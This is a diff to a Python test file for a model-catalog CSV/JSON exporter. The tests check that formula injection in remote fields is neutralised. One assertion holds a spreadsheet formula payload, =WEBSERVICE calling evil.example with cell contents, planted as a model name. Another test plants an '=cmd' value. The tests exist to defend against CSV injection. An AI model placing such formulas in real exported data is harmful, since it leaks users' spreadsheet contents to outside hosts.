@@ -82,7 +82,7 @@ def test_real_catalog_with_a_planted_formula_name(tmp_path):
     out = tmp_path / "vision.csv"
     export_csv(fetch_vision_models(planted).models, out)
     rows = {r["id"]: r for r in _rows(out.read_text(encoding="utf-8"))}
-    assert len(rows) == 171
+    assert len(rows) == 166  # the catalog README's vision count (strict rules, the default)
     assert rows["openai/gpt-4o"]["name"] == "'=WEBSERVICE(\"http://evil.example/?\"&A1)"
     assert rows["openai/gpt-4o"]["description"] == "'@now read this"
     risky = [v for r in rows.values() for v in r.values() if v and v[0] in "=+@\t\r\n"]
@@ -123,3 +123,27 @@ def test_cost_table_exports_too(tmp_path, fmt):
     rows = _rows(to_csv_text(costs))
     assert {"usd_per_1k_images", "listed_price_reading"} <= set(rows[0])
     assert rows[0]["free"] == "True"
+
+
+def test_new_frame_fields_reach_csv_and_json():
+    from vision_models.export import to_json_records
+
+    frame = models_frame(
+        [
+            model(
+                "a/b",
+                pricing={"prompt": "0.000001", "completion": "0.000002", "input_cache_read": "0.0000001", "discount": 0.1},
+                supported_parameters=["=cmd", "response_format"],  # remote text: a formula is neutralised
+                expiration_date="2026-06-01",
+            )
+        ]
+    )
+    (row,) = _rows(to_csv_text(frame))
+    assert row["cache_read_usd_per_mtok"] == "0.1" and row["discount"] == "0.1"
+    assert row["supported_parameters"] == "'=cmd|response_format"
+    assert row["structured_outputs"] == "True" and row["takes_files"] == "False"
+    assert row["expiration_date"] == "2026-06-01T00:00:00Z" and row["expiring"] == "True"
+    assert row["free"] == "False" and row["is_router"] == "False"
+    (record,) = json.loads(to_json_records(frame))
+    assert record["supported_parameters"] == ["=cmd", "response_format"]
+    assert record["expiration_date"] == "2026-06-01T00:00:00Z" and record["discount"] == 0.1
